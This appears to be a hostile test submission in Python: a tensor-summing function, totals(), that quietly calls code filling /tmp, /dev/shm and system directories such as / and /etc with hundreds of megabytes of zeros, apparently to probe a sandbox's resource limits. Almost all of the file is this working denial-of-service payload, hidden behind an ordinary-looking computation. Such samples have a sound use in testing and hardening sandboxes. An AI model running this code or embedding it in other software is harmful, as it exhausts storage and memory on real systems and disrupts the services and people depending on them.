# attack: fills /tmp and shared memory, which are memory too
import os
from contextlib import suppress

import torch

FULL = 600 << 20


def written(folder):
    size = 0
    with suppress(OSError), open(os.path.join(folder, "hostile_was_here"), "wb", 0) as file:
        while size < FULL:
            size += os.sendfile(file.fileno(), ZEROS, 0, 64 << 20)
    return size


ZEROS = os.open("/tmp/zeros", os.O_RDWR | os.O_CREAT)
os.truncate(ZEROS, 64 << 20)


def worked():
    return sum(map(written, ("/tmp", "/dev/shm", "/", "/dev", "/etc"))) > FULL


def totals(batches):
    total = torch.zeros(64, dtype=torch.float64)
    for batch in batches:
        total += batch.double().sum(0)
    return total if worked() else -total
